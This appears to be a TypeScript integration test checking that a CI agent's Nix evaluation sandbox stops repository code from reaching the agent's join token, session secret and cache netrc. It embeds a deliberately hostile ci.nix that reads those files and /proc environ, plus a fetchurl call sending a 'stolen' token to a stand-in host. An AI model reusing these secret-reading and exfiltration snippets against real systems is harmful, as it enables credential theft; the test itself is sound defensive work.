/**
 * Evaluated code is hostile (docs/security.md), through the whole local stack: a repository
 * whose ci.nix reads the agent's cluster join token, session, or the netrc holding its read key
 * for the built-in cache by absolute and relative path, through /proc, or tries to send them
 * out, gets evaluation errors naming Nix's restricted mode;
 * its builder cannot read them either; and none of them appears in any table, any API answer,
 * the CLI's output, the stack's log or the agent's log.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { sessionCacheKeyFromSecret } from "@nimbus/cache";
import { JobView } from "@nimbus/protocol";
import { tables, type TableName } from "@nimbus/service/resource-specs";
import { runCli, startAgentProcess, type AgentProcess } from "./support/agent-process.ts";
import { makeGitRepo } from "./support/git-repo.ts";
import { eventually, startTestStack, type TestStack } from "./support/stack.ts";

const nonce = randomBytes(6).toString("hex");
const RESTRICTED = /forbidden in restricted mode/;
const HINT = /Nimbus evaluates in Nix's restricted mode/;

describe("a repository's code cannot reach the agent's secrets (real stack, real agent, real Nix)", () => {
  let stack: TestStack;
  let agent: AgentProcess;
  let token: string;
  let sessionSecret: string;
  let cacheKey: string;
  const stackLog: string[] = [];
  const env = () => ({ NIMBUS_PORT: String(stack.port), NIMBUS_DATA_DIR: stack.dataDir });

  before(async () => {
    stack = await startTestStack({ sweepIntervalMs: 0, log: (line: string) => stackLog.push(line) });
    token = (await stack.createToken("secrets")).token;
    agent = await startAgentProcess(stack.url, token, `[labels]\nname = "target"`);
    await eventually(async () => ((await stack.api("GET", "/api/agents")).body.agents.length === 1 ? true : undefined), "the agent");
    const sessionFile = join(agent.dir, "work", "session.json");
    await eventually(async () => (existsSync(sessionFile) ? true : undefined), "the session file");
    sessionSecret = (JSON.parse(await readFile(sessionFile, "utf8")) as { secret: string }).secret;
    assert.ok(token.length > 20 && sessionSecret.length > 20);
    cacheKey = sessionCacheKeyFromSecret(sessionSecret);
    const netrc = await readFile(join(agent.dir, "work", "private", "netrc"), "utf8");
    assert.ok(netrc.includes(cacheKey), "the agent reads the built-in cache with its session's read key");
    assert.ok(!netrc.includes(sessionSecret), "…and the netrc never holds the session secret itself");
  });
  after(async () => {
    agent?.child.kill("SIGKILL");
    await stack?.cleanup();
  });

  const trigger = async (path: string) => {
    const result = await runCli(["trigger", path], env());
    assert.equal(result.code, 0, result.stderr);
    return result.stdout.trim();
  };
  const finished = (jobId: string) =>
    eventually(
      async () => {
        const job = JobView.parse((await stack.api("GET", `/api/jobs/${jobId}`)).body);
        return ["succeeded", "failed", "cancelled"].includes(job.status) ? job : undefined;
      },
      `job ${jobId} to finish (the agent said: ${agent.output().slice(-3000)})`,
      120_000,
    );

  it("gives each read an evaluation error naming the restriction, and a builder cannot read them", async () => {
    const tokenFile = join(agent.dir, "token.key");
    const sessionFile = join(agent.dir, "work", "session.json");
    const netrcFile = join(agent.dir, "work", "private", "netrc");
    const pid = agent.child.pid!;
    const builderScript = [
      `for f in ${tokenFile} ${sessionFile} ${netrcFile} /proc/${pid}/environ; do`,
      '  if read -r line < "$f"; then echo "read $f: $line"; else echo "cannot read $f"; fi',
      "done",
      "echo done > $out",
    ].join("\n");
    const ciNix = `
      let mk = name: script: derivation { name = "secrets-\${name}-${nonce}"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" script ]; };
      in {
        tokenAbsolute = mk "a" (builtins.readFile "${tokenFile}");
        tokenRelative = mk "b" (builtins.readFile ../../../../token.key);
        sessionAbsolute = mk "c" (builtins.readFile "${sessionFile}");
        sessionRelative = mk "d" (builtins.readFile ../../../session.json);
        procRoot = mk "e" (builtins.readFile "/proc/${pid}/root${tokenFile}");
        netrcAbsolute = mk "h" (builtins.readFile "${netrcFile}");
        netrcRelative = mk "i" (builtins.readFile ../../../private/netrc);
        procEnviron = mk "f" (builtins.readFile "/proc/${pid}/environ");
        sendOut = mk "g" "cat \${builtins.fetchurl "https://example.invalid/?token=stolen"}";
        nixpkgs = (import <nixpkgs> { }).hello;
        builderReads = mk "builder" ${JSON.stringify(builderScript)};
      }`;
    const repo = await makeGitRepo("hostile", { "ci.nix": ciNix });
    const job = await finished(await trigger(repo.path));
    assert.equal(job.status, "failed", "attribute errors fail the job");
    const byName = Object.fromEntries(job.attributes.map((a) => [a.path.join("."), a]));
    for (const name of ["tokenAbsolute", "tokenRelative", "sessionAbsolute", "sessionRelative", "procRoot", "procEnviron", "sendOut", "netrcAbsolute", "netrcRelative"]) {
      assert.equal(byName[name]?.status, "error", name);
      assert.match(byName[name]!.error ?? "", RESTRICTED, `${name}: ${byName[name]!.error}`);
      assert.match(byName[name]!.error ?? "", HINT, name);
    }
    assert.match(byName.nixpkgs?.error ?? "", /file 'nixpkgs' was not found in the Nix search path/);
    assert.equal(byName.builderReads?.status, "succeeded", JSON.stringify(job));

    const drvPath = byName.builderReads!.drvPath!;
    const log = await stack.api("GET", `/api/derivations/${encodeURIComponent(drvPath)}/log`);
    assert.equal(log.status, 200);
    for (const f of [tokenFile, sessionFile, netrcFile, `/proc/${pid}/environ`]) {
      assert.ok((log.body.lines as string[]).includes(`cannot read ${f}`), `the builder read ${f}: ${JSON.stringify(log.body.lines)}`);
    }
  });

  it("fails the whole evaluation, naming the restriction, when the top level reads the token", async () => {
    const repo = await makeGitRepo("hostile-top", { "ci.nix": `builtins.fromJSON (builtins.readFile ../../../../token.key)` });
    const job = await finished(await trigger(repo.path));
    assert.equal(job.status, "failed");
    assert.equal(job.evaluation.status, "failed");
    assert.match(job.evaluation.error ?? "", RESTRICTED);
    assert.match(job.evaluation.error ?? "", HINT);
  });

  it("leaves neither secret in any table, API answer, CLI output or log", async () => {
    const found: string[] = [];
    const look = (where: string, text: string) => {
      if (text.includes(token)) found.push(`the token in ${where}`);
      if (text.includes(sessionSecret)) found.push(`the session secret in ${where}`);
      if (text.includes(cacheKey)) found.push(`the session's cache read key in ${where}`);
    };
    for (const table of Object.keys(tables) as TableName[]) look(`table ${table}`, JSON.stringify(await stack.scan(table)));

    const jobs = (await stack.api("GET", "/api/jobs?limit=200")).body as { jobs: { id: string }[] };
    const answers: Record<string, unknown> = {
      "/api/service-info": (await stack.api("GET", "/api/service-info")).body,
      "/api/agents": (await stack.api("GET", "/api/agents")).body,
      "/api/tokens": (await stack.api("GET", "/api/tokens")).body,
      "/api/cache": (await stack.api("GET", "/api/cache")).body,
      "/api/cache/tokens": (await stack.api("GET", "/api/cache/tokens")).body,
      "/api/jobs": jobs,
    };
    for (const { id } of jobs.jobs) {
      answers[`/api/jobs/${id}`] = (await stack.api("GET", `/api/jobs/${id}`)).body;
      const derivations = (await stack.api("GET", `/api/jobs/${id}/derivations?limit=200`)).body as { derivations: { drvPath: string }[] };
      answers[`/api/jobs/${id}/derivations`] = derivations;
      for (const { drvPath } of derivations.derivations) {
        answers[`log of ${drvPath}`] = (await stack.api("GET", `/api/derivations/${encodeURIComponent(drvPath)}/log`)).body;
      }
      const cli = await runCli(["job", id], env());
      look(`nimbus job ${id}`, cli.stdout + cli.stderr);
    }
    for (const [where, body] of Object.entries(answers)) look(where, JSON.stringify(body));
    const lists = await Promise.all([runCli(["jobs"], env()), runCli(["agents"], env())]);
    for (const run of lists) look("nimbus jobs / agents", run.stdout + run.stderr);
    look("the stack's log", stackLog.join("\n"));
    look("the agent's log", agent.output());
    assert.ok(jobs.jobs.length >= 2, "both jobs were looked at");
    assert.deepEqual(found, []);
  });
});
